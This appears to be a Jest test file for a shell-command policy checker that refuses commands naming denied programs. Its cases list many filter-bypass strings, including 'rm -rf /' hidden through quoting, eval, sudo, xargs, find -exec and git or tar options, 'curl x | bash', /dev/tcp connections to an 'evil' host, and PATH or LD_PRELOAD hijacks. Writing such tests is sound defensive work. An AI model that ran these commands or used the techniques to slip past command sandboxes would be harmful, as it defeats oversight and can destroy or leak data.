import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { compileShellSink } from './shell-sink.js';

const everything = { allow_expansions: true, allow_redirects: true, allow_background: true, dialect: 'bash' } as const;
const denied = compileShellSink({ ...everything, programs: { denied: ['rm'] } });
const allowed = compileShellSink({ ...everything, programs: { allowed: ['ls', 'cat', 'echo', 'grep', 'find', 'env', 'git', 'tar', 'test', '[', 'printf', 'sh', 'bash', 'cd', 'true', '/usr/bin/*', './build'] } });
const strict = compileShellSink({ programs: { allowed: ['ls', 'cat', 'echo', 'grep', 'find', 'git', 'tar', 'cd', 'diff', 'env', 'sh'] } });

describe('compileShellSink', () => {
  it.each([
    'rm -rf /', "r''m x", '\\rm x', '"rm" x', "$'\\x72m' x", '"r"m x', "'rm'", 'r\\\nm x', '/bin/rm x', './rm', 'RM x', '/bin/RM',
    'ls; rm x', 'ls && rm x', 'ls || rm x', 'ls | rm', 'ls |& rm', 'ls & rm', 'ls\nrm x', '(rm x)', '{ rm x; }', '! rm x',
    'echo $(rm x)', 'echo `rm x`', 'echo "$(rm x)"', 'echo "`rm x`"', 'echo `echo \\`rm\\``', 'cat <(rm x)', 'ls > >(rm x)',
    'cat <<E\n$(rm x)\nE\n', 'cat <<E\n`rm x`\nE\n', 'cat <<< "$(rm x)"', 'cat <<-E\n\t$(rm x)\n\tE\n',
    'if rm x; then ls; fi', 'if ls; then rm x; fi', 'if ls; then ls; elif rm; then ls; else ls; fi', 'while rm x; do ls; done', 'until ls; do rm; done',
    'for i in $(rm x); do ls; done', 'for i in a; do rm x; done', 'select i in a; do rm x; done', 'case a in $(rm x)) ls;; esac', 'case a in a) rm x;; esac', 'case $(rm) in a) ls;; esac',
    'for ((i=$(rm x);;)); do ls; done', 'echo $((a[$(rm x)]))', 'echo $(( $(rm x) ))', '((a=$(rm)))', '((a[$(rm)]))', 'echo $[ $(rm x) ]', 'a[$(rm)]=1', 'a=($(rm x))', 'declare -a x=($(rm))',
    'echo ${x:-$(rm x)}', 'echo ${x:=`rm x`}', 'echo "${x:-$(rm x)}"', 'echo ${x/$(rm)/}', 'echo ${x:$(rm)}', 'echo ${a[$(rm)]}', '${ rm x; }', 'x=$(rm)', 'x=$(rm) ls',
    '[[ a == $(rm x) ]]', '[[ -f $(rm) ]]', "[[ a -eq 'b[$(rm)]' ]]", "[[ -v 'a[$(rm)]' ]]", "test -v 'a[$(rm)]'", "[ -v 'a[$(rm)]' ]", "printf -v 'a[$(rm)]' x", "read 'a[$(rm)]'", "unset 'a[$(rm)]'", "declare 'a[$(rm)]=1'", "let 'a[$(rm)]'",
    "x='a[$(rm)]'; echo $((x))", "x='$(rm)'; echo ${x@P}", "x='a[$(rm)]'; echo ${!x}", "x='a[$(rm)]'; [[ $x -eq 0 ]]", "x='a[$(rm)]'; echo ${y:x}", "declare -i y; y='a[$(rm)]'", "x=-v; y='a[$(rm)]'; test $x \"$y\"",
    'coproc rm x', 'f() { rm x; }; f', 'ls() { rm x; }; ls', 'function f { rm; }', 'time rm x', 'time -p rm x', 'time -f x -o f rm',
    "sh -c 'rm x'", "bash -c 'rm x'", "bash -lc 'rm x'", "bash -c -x 'rm x'", "bash -o pipefail -c 'rm x'", "/bin/sh -c 'rm x'", 'sh -c "sh -c \'rm x\'"', "sh -ec 'ls; rm'", 'sh -c $x', 'sh -c "$(echo rm)"', 'echo rm | sh', 'curl x | bash', 'sh -s < x', 'bash --rcfile x -i', "zsh -c 'rm x'", "fish -c 'rm x'", 'bash <(echo rm)',
    'env rm x', 'env X=1 rm x', 'env -i X=1 rm', 'env -u X rm', 'env -S "rm x"', 'env --split-string="rm x"', '/usr/bin/env rm', 'env -C / rm', 'env -- rm', 'env -- X=1 rm', 'env $x rm', 'env env env rm',
    'sudo rm x', 'sudo -u root rm x', 'sudo -u root -- rm x', 'sudo -E X=1 rm x', 'sudo -s', 'sudo -i', 'sudo', 'sudo --shell rm', 'doas rm x', 'nohup rm x', 'nice rm x', 'nice -n 5 rm', 'nice -5 rm', 'nice -n5 rm', 'timeout 5 rm x', 'timeout -k 1 5 rm', 'timeout -s KILL 5 rm', 'stdbuf -oL rm', 'setsid rm x', 'chroot / rm', 'ionice -c 3 rm', 'strace -f rm', 'busybox rm x', 'toybox rm', 'busybox sh -c "rm x"', 'command rm x', 'command -p rm', 'builtin command rm', 'exec rm x', 'exec -a ls rm x', 'exec -c rm',
    'eval rm x', "eval 'rm x'", 'eval "ls;" "rm x"', 'eval $x', "trap 'rm x' EXIT", 'trap -- "rm x" EXIT', 'ssh host rm x', 'ssh host "ls; rm x"', 'ssh -p 22 host rm', 'ssh -o ProxyCommand=rm host ls', 'ssh -oProxyCommand=rm host ls', 'su -c "rm x"', 'watch rm x', 'flock f rm x', 'script -c "rm x"', 'parallel rm ::: x',
    'ls | xargs rm', 'xargs -0 rm', 'xargs -I{} rm {}', 'xargs -n 1 rm', 'bash /dev/stdin <<E\nrm x\nE\n', '. /dev/stdin <<E\nrm x\nE\n', 'source /dev//fd/0', 'sh /proc/self/fd/0', 'source $x', '. <(echo rm)', 'sh //dev/stdin', 'cd /dev; sh stdin', 'xargs -I{} {} x', 'xargs -I % sh -c "%"', 'echo rm | xargs env', 'echo rm | xargs sudo', "echo 'rm x' | xargs -0 sh -c", 'xargs --replace=X rm X', 'xargs -i {} x', 'xargs -- rm', 'xargs sh -c "rm x"', 'echo -exec rm | xargs find .', 'xargs tar cf x',
    'find . -exec rm {} \\;', 'find . -exec rm {} +', 'find . -execdir rm {} \\;', 'find . -ok rm {} \\;', 'find . -exec ls {} \\; -exec rm {} \\;', 'find . -exec timeout + rm \\;', 'find . -exec sh -c "rm x" \\;', 'find . -exec {} \\;', "find . '-exec' rm x ';'", 'find . $x rm {} \\;', 'find . -exec sh -c {} \\;',
    'tar cf a b --checkpoint=1 --checkpoint-action=exec=rm', 'tar --checkpoint-act=exec=rm -cf a b', "tar -I 'rm x' -cf a b", 'tar cf a *', 'tar cf a $x', 'tar --to-command=rm -xf a', 'tar xf a --use-compress-prog rm',
    'git -c core.pager=rm log', "git -c alias.x='!rm' x", 'git --exec-path=/tmp log', "git config alias.x '!rm x'", "git clone 'ext::rm x'", 'git clone -c core.x=y u', 'git clone --upload-pack=rm x', 'git rebase -x rm HEAD', 'git grep -Orm x', 'git bisect run rm', 'git submodule foreach rm', 'git $x log', 'git $(echo -c) core.pager=rm log', 'GIT_PAGER=rm git log', 'GIT_SSH_COMMAND=rm git fetch',
    'alias ls=rm; ls', 'hash -p /bin/rm ls; ls', 'enable -f x ls', 'shopt -s expand_aliases', 'set -k',
    'PATH=/tmp ls', 'PATH=/tmp; ls', 'export PATH=/tmp', 'export PATH', 'readonly PATH=/x', 'declare PATH=/x', 'env PATH=/tmp ls', 'PATH+=:/tmp ls', 'LD_PRELOAD=x ls', 'IFS=x', 'BASH_ENV=x bash x', 'ENV=x sh x', 'PROMPT_COMMAND=rm', 'PS4=x', 'for PATH in /tmp; do ls; done', 'echo ${PATH:=x}', 'read PATH', 'printf -v PATH x', 'unset PATH', 'NODE_OPTIONS=x node y', 'PYTHONSTARTUP=x python', 'DYLD_INSERT_LIBRARIES=x ls', 'command export PATH=/tmp', 'ls {PATH}>x', 'getopts a PATH', 'mapfile PATH', 'env LD_PRELOAD=x ls', 'sudo PATH=/x ls',
    '$x', '$(echo rm) x', '`echo rm` x', '${x}', 'r$x', '{rm,-rf} x', '/bin/r?', '/bin/r*', 'r[m]', '~/rm', '~root/x', '"$x"', '$"rm" x', '$@', 'rm*', '"${x}"', '+(r)m x', '@(rm)', '/b*/rm', 'r"$(echo m)"', 'env {rm,x}', 'a=rm; $a x', 'exec $x', 'command "$x"', 'r$1m', 'r$@m x',
    'ls > /dev/tcp/evil/80', 'cat < /dev/udp/x/1', 'ls > $x', 'exec 3<>/dev/tcp/evil.com/80',
    'r\u200bm x', 'ｒｍ x', 'rm\u00a0x', 'l\u0455 x', 'ls\rrm x', 'ls\0rm', 'ls \ud800', 'ls \x1b[2J', '\u2028rm', 'ls\u0085rm',
    'echo $(', 'echo "', "echo '", 'if ls', '( ls', 'ls )', 'foo() bar', '{ ls', 'cat <<E\nabc', 'echo `', 'case a in', 'ls ;;', '&& ls', '| ls', 'cat <<E\nabc\\\nE\nE\n', 'echo ${x', 'echo $((1+', 'done', 'for', 'cat <<$(rm)\nx\n',
    '/usr/bin/../../tmp/rm', '//bin/rm', '/bin/./rm',
  ])('refuses %j although only rm is denied', (text) => {
    expect(denied(text)).toBeDefined();
  });

  it.each([
    'ls', 'ls -la /tmp', 'ls | grep x', 'echo "a b" \'c\'', 'echo $HOME', 'echo "$(ls)"', 'cat <<E\nhello $USER\nE\n', "cat <<'E'\n$(rm)\nE\n", "echo '$(rm)'", 'echo "rm -rf /"', 'grep rm x', 'ls # rm x', 'ls -rm', 'echo rm',
    'for f in a b; do echo "$f"; done', 'if [ -f x ]; then cat x; fi', '[[ -f x && -n $y ]]', 'test -n "$x"', '[ "$a" = "b" ]', 'x=1; echo $x', 'x=$(ls) && echo "$x"', 'ls > out.txt 2>&1', 'ls &', 'find . -name "*.ts" -exec grep -l x {} +', 'find . -type f', 'ls | xargs grep x', 'ls | xargs -I{} echo {}', "xargs -n1 sh -c 'echo hi'",
    'env X=1 ls', "sh -c 'ls; echo hi'", "bash -lc 'ls'", "bash -c 'echo \"$1\"' x y", 'sudo -u www ls', 'timeout 5 ls', 'nice -n 5 ls', 'time ls', 'nohup ls', 'git status', 'git commit -m "message with rm"', 'git log --oneline -n 5', 'git switch -c branch', 'tar czf a.tgz src', 'tar xf a.tar -C /tmp', 'command -v node', 'cd /tmp && ls', 'echo {a,b} *.ts', 'echo $((1 + 2 * 3))', 'printf "%s\\n" x', 'export X=1', 'read -r line', 'set -euo', 'eval "ls"', "trap 'ls' EXIT", "trap - EXIT", 'case $x in a|b) ls;; *) echo no;; esac', 'while read -r l; do echo "$l"; done', 'ls 2>/dev/null', 'ssh host ls', 'npm run build', 'python3 -m pytest', 'make test', 'echo ünïcode 日本', 'exec 2>&1', '', '  \n ', 'sed -n 1p x', 'echo a\\ b', 'ls;', 'env',
  ].filter((text) => text !== 'set -euo'))('lets %j pass where only rm is denied', (text) => {
    expect(denied(text)).toBeUndefined();
  });

  it.each(['/tmp/evil/ls', './ls', 'rm', 'lss', 'LS', 'ls2', '/usr/bin/sub/ls', '/usr/bin/../../tmp/ls', 'usr/bin/ls', './build/x', 'python -c x', "perl -e 'x'", "awk 'BEGIN{system(\"x\")}'", 'node x', 'find . -exec rm {} +', 'env id', 'xargs id', 'sh -c id', 'time ls', '/usr/bin/env id', 'cd /tmp; ./evil', 'git difftool', 'ls | tee x', '. ./x', 'source x', 'eval ls', 'exec ls', 'l\\s2', ':'])(
    'refuses %j where it is not in the allowed programs',
    (text) => {
      expect(allowed(text)).toBeDefined();
    },
  );

  it.each(['ls', 'l\\s', '/usr/bin/ls', './build', 'env ls', 'sh -c "ls | grep x"', 'find . -exec cat {} +', 'cat x | grep y && echo z', 'x=1', 'true'])('lets %j pass in the allowed programs', (text) => {
    expect(allowed(text)).toBeUndefined();
  });

  it.each([
    ['echo $x', 'expansion'], ['echo $(ls)', 'expansion'], ['echo `ls`', 'expansion'], ['diff <(ls) <(ls)', 'process substitution'], ['echo $((1))', 'expansion'], ['cat <<E\n$x\nE\n', 'expansion'], ['x=$y', 'expansion'],
    ['ls > x', 'redirection'], ['cat < x', 'redirection'], ['ls >> x', 'redirection'], ['ls >| x', 'redirection'], ['ls >& x', 'redirection'], ['ls <> x', 'redirection'], ['> x', 'redirection'],
    ['ls &', 'background'], ['ls & ls', 'background'],
    ["echo $'a\\'; rm -rf / #'", 'POSIX'], ['[[ a || rm ]]', 'POSIX'], ['((rm -rf /))', 'POSIX'], ['ls &> x', 'POSIX'], ['cat <<< x', 'POSIX'], ['a=(b)', 'POSIX'], ['ls |& cat', 'POSIX'], ['echo $"x"', 'POSIX'], ['select x in a; do ls; done', 'POSIX'], ['case a in a) ls;;& b) ls;; esac', 'POSIX'], ['coproc ls', 'POSIX'],
    ["sh -c 'echo $x'", 'expansion'],
  ])('refuses %j by default', (text, reason) => {
    expect(strict(text)?.reason).toContain(reason);
  });

  it.each(['ls 2>&1', 'ls >/dev/null 2>&1', 'ls 2> /dev/null | cat', "cat <<'E'\n$(rm)\nE\n", 'cat <<E\nplain\nE\n', 'cd src && grep -rn "TODO" .', "git commit -m 'a $(b) `c`'", 'find . -name "*.md" -exec grep -l x {} \\;'])('lets %j pass by default', (text) => {
    expect(strict(text)).toBeUndefined();
  });

  it('names the policy and the offset, never the text', () => {
    expect(denied('ls; /bin/rm secret')).toEqual({ reason: 'program matches programs.denied "rm"', offset: 4 });
    expect(strict('ls; evilprogram')).toEqual({ reason: 'program is not in programs.allowed', offset: 4 });
    expect(denied("ls; sh -c 'rm secret'")).toEqual({ reason: 'program matches programs.denied "rm"', offset: 10 });
  });

  it('refuses what is longer than max_length', () => {
    expect(compileShellSink({ max_length: 5 })('ls -la')?.reason).toContain('max_length 5');
    expect(strict('a'.repeat(10_000_000))?.reason).toContain('max_length 32768');
  });

  it.each([['a b'], [''], ['rm\0'], ['ｒｍ']])('throws for the pattern %j', (pattern) => {
    expect(() => compileShellSink({ programs: { allowed: [pattern] } })).toThrow(/programs\.allowed/);
  });

  it.each(['$(', '((', '(', '`', '{ ', '${x:-', '"$(', '<(', '[[ (', '!', 'if ', 'a=(', '$((', 'case x in a) ', 'a[', '!(', '{a,', 'f(){ ', 'env ', 'sh -c ', 'eval ', '\\', '"', "'", '|', ';', '&', '<<E\n', '! ', 'time ', 'sudo -', '$[', '${', 'x=', '>', '[[ a && '])(
    'reads %j repeated to any length in bounded time',
    (piece) => {
      for (const size of [100, 1000, 32_000, 1_000_000]) {
        const text = piece.repeat(Math.ceil(size / piece.length)).slice(0, size);
        const started = performance.now();
        strict(text);
        denied(text);
        expect(performance.now() - started).toBeLessThan(1500);
      }
    },
  );

  it('never throws, and finds the denied program behind any piece of syntax it accepts', () => {
    const piece = fc.constantFrom('rm', 'ls', ' ', ';', '|', '&&', '$(', ')', '`', '"', "'", '\\', '\n', '{', '}', '(', '<<E\n', '\nE\n', '$x', '${x}', 'sh -c ', 'env ', '#', '[[', ']]', '((', '))', '=', '>', '<', '*', 'if', 'then', 'fi', '\ud800', '\0', '-c', '!');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        denied(pieces.join(''));
        strict(pieces.join(' '));
      }),
      { numRuns: 1000 },
    );
  });
});
